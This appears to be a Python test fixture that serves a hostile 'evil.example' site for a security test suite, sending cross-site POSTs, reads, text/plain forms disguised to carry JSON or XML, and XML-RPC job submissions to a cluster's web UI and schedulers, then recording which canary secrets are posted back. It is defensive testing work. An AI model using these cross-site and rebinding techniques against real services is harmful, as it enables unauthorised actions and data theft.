"""A site that means no good, and what its pages send to a cluster."""

import json
from collections.abc import Iterator, Mapping, Sequence
from contextlib import AbstractContextManager, contextmanager
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any
from urllib.parse import parse_qsl
from xmlrpc.client import dumps

from tests.attack.canaries import KEPT, MEMBERS_ONLY
from tests.attack.doors import ROUTES
from tests.attack.rpc import arguments_of
from tests.attack.web import body_of, filled
from tests.support.chain_site import Site, SiteAnswer

PORT = 8000
NAME, REBOUND = "evil.example", "rebound.evil.example"
_PAGE = Path(__file__).with_name("evil.html")
_HTML = "text/html; charset=utf-8"


@dataclass
class Evil:
    """The site.

    Attributes:
        url: of its page.
        loot: what the page could read, and hand over.
    """

    url: str
    loot: list[str] = field(default_factory=list)

    def stolen(self, secrets: Sequence[str]) -> list[str]:
        """Return which canaries and secrets the page could read."""
        return [each for each in (*MEMBERS_ONLY, *secrets) if each in "\n".join(self.loot)]


@contextmanager
def evil_site(
    there: AbstractContextManager[None], address: str, name: str, targets: Mapping[str, Any]
) -> Iterator[Evil]:
    """Serve the page.

    Args:
        there: the network to listen in.
        address: to listen on.
        name: by which browsers know it.
        targets: what the page is told to attack.
    """
    site = Evil(f"http://{name}:{PORT}/")

    class EvilPage(SiteAnswer):
        def get(self) -> None:
            told = json.dumps(targets).encode()
            self.say(told if self.path == "/targets" else _PAGE.read_bytes(), kind=_HTML)

        def post(self) -> None:
            length = int(self.headers["content-length"])
            site.loot.append(self.rfile.read(length).decode("utf-8", "replace"))
            self.say(b"", kind=_HTML)

    with there:
        server = Site(EvilPage, address, PORT)
    with server:
        yield site


def targets(web: str, schedulers: Sequence[str]) -> dict[str, list[Any]]:
    """Return what a page sends: to every route, and to every scheduler.

    Args:
        web: host and port of the web UI, as a browser there calls it.
        schedulers: the same of their XML-RPC.
    """
    posts = [post for route in ROUTES for post in _posts(f"http://{web}", route)]
    calls = [_call(f"http://{address}/RPC2") for address in schedulers]
    reads = [f"http://{web}{path}" for path in _readable()]
    forms = [form for route in ROUTES for form in _forms(f"http://{web}", route)]
    forms += [_disguised(call) for call in calls]
    return {"forms": forms, "posts": posts + calls, "reads": reads, "refreshes": reads[:3]}


def _readable() -> list[str]:
    paths = ("/debug/<project>/get", "/api/v1/projects", "/results/dump/<project>.<_format>")
    more = ("/debug/<project>", "/dav/<path:script>", "/tasks", "/cluster/projects", "/")
    return [filled(route) for route in (*paths, *more)]


def _posts(base: str, route: str) -> Iterator[dict[str, str]]:
    for method in ("POST", "PUT", "DELETE"):
        body, headers = body_of(route, method)
        if method == "POST" or "/dav/" in route or "/batches" in route:
            kind = headers.get("Content-Type", "text/plain")
            url = base + filled(route)
            yield {"url": url, "method": method, "type": kind, "body": body.decode()}


def _forms(base: str, route: str) -> Iterator[dict[str, Any]]:
    body, headers = body_of(route, "POST")
    url = base + filled(route)
    if "json" in headers.get("Content-Type", ""):
        yield _disguised({"url": url, "body": body.decode()})
        return
    fields = dict(parse_qsl(body.decode()))
    for enctype in ("application/x-www-form-urlencoded", "multipart/form-data", "text/plain"):
        yield {"url": url, "method": "post", "enctype": enctype, "fields": fields}


def _disguised(post: Mapping[str, str]) -> dict[str, Any]:
    """Return a form of plain text that sends JSON or XML: all of it is the name of a field."""
    name, _, value = post["body"].partition("=")
    fields = {name: value}
    return {"url": post["url"], "method": "post", "enctype": "text/plain", "fields": fields}


def _call(url: str) -> dict[str, str]:
    body = dumps(arguments_of("submit_operation"), "submit_operation")
    assert KEPT in body
    return {"url": url, "method": "POST", "type": "text/xml", "body": body}
